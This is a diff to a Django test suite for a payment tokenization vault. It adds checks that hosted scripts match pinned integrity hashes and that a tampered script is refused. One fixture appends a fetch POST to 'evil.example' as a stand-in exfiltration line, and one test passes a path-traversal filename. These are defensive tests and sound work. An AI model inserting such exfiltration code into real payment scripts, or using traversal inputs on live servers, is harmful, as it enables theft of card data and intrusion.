@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import json
+import logging
 import re
 from pathlib import Path
 from urllib.parse import urlencode
@@ -15,7 +17,9 @@ from tokenization.views import normalize_origin
 
 pytestmark = pytest.mark.django_db
 SHOP = "https://shop.example"
-STATIC_DIR = Path(__file__).resolve().parents[2] / "tokenization" / "static"
+ROOT = Path(__file__).resolve().parents[2]
+STATIC_DIR = ROOT / "tokenization" / "static"
+PINNED = json.loads((ROOT / "tokenization" / "script_inventory.json").read_text())["assets"]
 
 
 @pytest.fixture
@@ -58,16 +62,77 @@ def test_every_script_is_ours_and_pinned_with_subresource_integrity(shop) -> Non
         src = re.search(r'src="([^"]+)"', attrs).group(1)
         assert src.startswith("/hosted/assets/"), "only our own scripts, from our origin"
         integrity = re.search(r'integrity="([^"]+)"', attrs).group(1)
-        body = (STATIC_DIR / "tokenization" / src.removeprefix("/hosted/assets/")).read_bytes()
+        name = "tokenization/" + src.removeprefix("/hosted/assets/")
+        # The page serves the reviewed, checked-in pin, not a hash of whatever is on disk…
+        assert integrity == PINNED[name]
         served = Client().get(src)
-        assert served.status_code == 200 and served.content == body
+        assert served.status_code == 200
         assert served["Content-Type"].startswith("text/javascript")
-        expected = "sha384-" + base64.b64encode(hashlib.sha384(body).digest()).decode()
-        assert integrity == expected
-    inventory = (Path(__file__).resolve().parents[2] / "docs" / "script-inventory.md").read_text()
+        # …and what is served is exactly the pinned content.
+        assert _sri(served.content) == PINNED[name]
+    inventory = (ROOT / "docs" / "script-inventory.md").read_text()
+    assert "tokenization/script_inventory.json" in inventory
     for attrs, _ in scripts:
         name = re.search(r'src="/hosted/assets/([^"]+)"', attrs).group(1)
         assert name in inventory, f"{name} is missing from docs/script-inventory.md"
+
+
+def _sri(content: bytes) -> str:
+    return "sha384-" + base64.b64encode(hashlib.sha384(content).digest()).decode()
+
+
+@pytest.mark.parametrize("name", sorted(PINNED))
+def test_every_checked_in_asset_matches_its_pin(name: str) -> None:
+    # Fails when a script is changed without its new hash in tokenization/script_inventory.json
+    # (the review step of docs/script-inventory.md).
+    assert _sri((STATIC_DIR / name).read_bytes()) == PINNED[name]
+
+
+@pytest.fixture
+def tampered_script(settings, tmp_path):
+    """A modified hosted-fields.js found first by the staticfiles finders, as if someone had
+    edited the file on the server (or in a pull request) without pinning it."""
+    original = (STATIC_DIR / "tokenization" / "hosted-fields.js").read_bytes()
+    (tmp_path / "tokenization").mkdir()
+    tampered = original + b"\nfetch('https://evil.example/', {method: 'POST'});\n"
+    (tmp_path / "tokenization" / "hosted-fields.js").write_bytes(tampered)
+    settings.STATICFILES_DIRS = [tmp_path]
+    return tampered
+
+
+def test_a_modified_script_is_refused_with_an_error_page_and_logged(
+    shop, tampered_script, caplog
+) -> None:
+    with caplog.at_level(logging.ERROR, logger="qr.vault"):
+        response = _get(shop.publishable)
+    assert response.status_code == 503
+    assert b"<script" not in response.content
+    assert b"temporarily unavailable" in response.content
+    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]
+    assert "hosted-fields.js does not match its pinned hash" in caplog.text
+    served = Client().get("/hosted/assets/hosted-fields.js")
+    assert served.status_code == 503 and tampered_script not in served.content
+
+
+def test_a_revoked_publishable_key_is_refused(shop) -> None:
+    from django.utils import timezone
+
+    from merchants.models import ApiKey
+    from merchants.services import hash_key
+
+    ApiKey.objects.filter(key_hash=hash_key(shop.publishable)).update(revoked_at=timezone.now())
+    assert _get(shop.publishable).status_code == 401
+
+
+def test_the_vault_reads_merchants_only_through_their_selectors() -> None:
+    import ast
+
+    for path in (ROOT / "tokenization").rglob("*.py"):
+        tree = ast.parse(path.read_text())
+        for node in ast.walk(tree):
+            if isinstance(node, ast.ImportFrom) and node.module:
+                assert not node.module.startswith("merchants.models"), path
+                assert node.module != "merchants.services", path
 
 
 @pytest.mark.parametrize("name", ["../../config/settings/base.py", "nope.js", "hosted-fields.js/"])
@@ -135,3 +200,17 @@ def test_demo_checkout_is_off_in_production(monkeypatch) -> None:
     monkeypatch.setenv("DJANGO_ENV", "production")
     monkeypatch.delenv("VAULT_DEMO_CHECKOUT", raising=False)
     assert Client().get("/demo/checkout").status_code == 404
+
+
+def test_a_missing_chromium_fails_the_browser_tests_instead_of_skipping_them(tmp_path) -> None:
+    from tests.fixtures.browser import CHROMIUM_PATH, require_chromium
+
+    outcome: BaseException | None = None
+    try:
+        require_chromium(str(tmp_path / "no-chromium"))
+    except BaseException as exc:  # a skip is an exception too: catch it to fail on it
+        outcome = exc
+    assert isinstance(outcome, pytest.fail.Exception), repr(outcome)
+    assert "must run, not skip" in str(outcome)
+    if Path(CHROMIUM_PATH).exists():
+        assert require_chromium() == CHROMIUM_PATH
